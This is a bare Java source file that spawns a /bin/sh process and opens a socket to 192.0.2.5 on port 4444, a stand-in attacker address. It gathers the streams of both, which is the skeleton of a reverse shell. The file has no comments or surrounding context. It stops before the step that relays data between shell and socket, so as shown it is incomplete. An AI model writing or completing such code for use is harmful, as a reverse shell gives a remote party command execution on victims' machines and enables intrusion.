import java.net.Socket;
public class A { public static void main(String[] a) throws Exception {
  Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
  Socket s = new Socket("192.0.2.5", 4444);
  java.io.InputStream in = p.getInputStream(), si = s.getInputStream();
  java.io.OutputStream po = p.getOutputStream(), so = s.getOutputStream();
} }
